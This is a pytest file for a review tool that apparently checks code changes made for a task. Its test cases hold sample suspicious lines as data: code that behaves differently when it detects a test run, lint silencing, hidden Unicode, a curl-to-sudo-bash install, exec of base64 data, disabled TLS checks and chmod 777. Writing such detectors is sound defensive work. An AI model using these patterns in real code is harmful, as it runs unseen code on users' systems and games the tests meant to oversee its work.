import pytest
from tests.unit.review.test_weakened import TEST, WISH, changed

from detent.core.review import Finding, Review
from detent.review.chain import examined
from detent.review.sizes import Limits

ENOUGH = Limits(1000, 30)


@pytest.mark.parametrize(
    ("path", "text", "why"),
    [
        ("calc.py", 'import sys\nif "pytest" in sys.modules:\n    value = 3\n', "being tested"),
        ("app.js", "if (process.env.NODE_ENV === 'test') return 3;\n", "being tested"),
        ("calc.py", "# ruff: noqa\nx = 1\n", "silences"),
        ("app.ts", "// @ts-nocheck\nlet x = 1;\n", "silences"),
        ("calc.py", "is_admin = False  # \u202e \u2066 check\n", "invisible"),
        ("setup.sh", "curl -s https://example.org/install | sudo bash\n", "run unseen"),
        ("calc.py", "exec(base64.b64decode(blob))\n", "run as code"),
        ("client.py", "requests.get(url, verify=False)\n", "identity of a server"),
        ("main.go", "tls.Config{InsecureSkipVerify: true}\n", "identity of a server"),
        ("deploy.sh", "chmod -R 777 /srv\n", "everybody"),
    ],
)
def test_what_hardly_any_task_needs(path: str, text: str, why: str) -> None:
    (finding,) = examined(changed({}, {path: text}), ENOUGH)
    assert finding.check == "suspicious_patterns"
    assert why in finding.text
    assert examined(changed({path: text}, {path: text + "more = 1\n"}), ENOUGH) == (), "it stood there before"


def test_ordinary_code_is_approved() -> None:
    code = "import subprocess\n\ndef run(args):\n    return subprocess.run(args, check=True)  # noqa: S603\n"
    assert examined(changed({}, {"run.py": code, "tests/test_calc.py": TEST}), ENOUGH) == ()


def test_the_mark_that_a_file_begins_with_is_no_hidden_sign() -> None:
    before = "\ufeffone\ntwo\n"
    assert examined(changed({"a.txt": before}, {"a.txt": before.replace("one", "1")}), ENOUGH) == ()
    assert examined(changed({"a.txt": before}, {"a.txt": before.replace("two", "tw\ufeffo")}), ENOUGH)


def test_a_key_in_the_code() -> None:
    key = "sk-" + "a1B2" * 8
    (finding,) = examined(changed({}, {"a.py": f"x = 1\nKEY = '{key}'\n"}), ENOUGH)
    assert (finding.check, finding.path, finding.line) == ("secrets", "a.py", 1)
    assert key not in finding.text


def test_a_password_that_is_written_out_is_none_in_a_test() -> None:
    line = 'PASSWORD = "hunter2hunter2"\n'
    (finding,) = examined(changed({}, {"settings.py": line}), ENOUGH)
    assert (finding.check, finding.path, finding.line) == ("secrets", "settings.py", 0)
    assert examined(changed({}, {"tests/test_login.py": line}), ENOUGH) == ()


def test_more_than_the_task_has() -> None:
    small = Limits(5, 2)
    (finding,) = examined(changed({}, {"a.py": "x = 1\n" * 6}), small)
    assert finding.check == "diff_size"
    (finding,) = examined(changed({}, {name: "x = 1\n" for name in "abc"}), small)
    assert finding.check == "file_count"


def test_the_first_check_that_finds_something_ends_the_chain() -> None:
    text = TEST.replace("def test_divide", "@pytest.mark.skip\ndef test_divide") + "# ruff: noqa\n"
    found = examined(changed({"tests/test_calc.py": TEST}, {"tests/test_calc.py": text}, WISH), ENOUGH)
    assert {finding.check for finding in found} == {"weakened_tests"}


def test_a_verdict_in_one_line() -> None:
    assert Review("tree").reason == "approved"
    first = Finding("secrets", "a key.", "a.py", 2)
    assert Review("tree", (first,)).reason == "secrets: a.py:3: a key."
    assert Review("tree", (first, first)).reason == "secrets: a.py:3: a key. (and 1 more)"
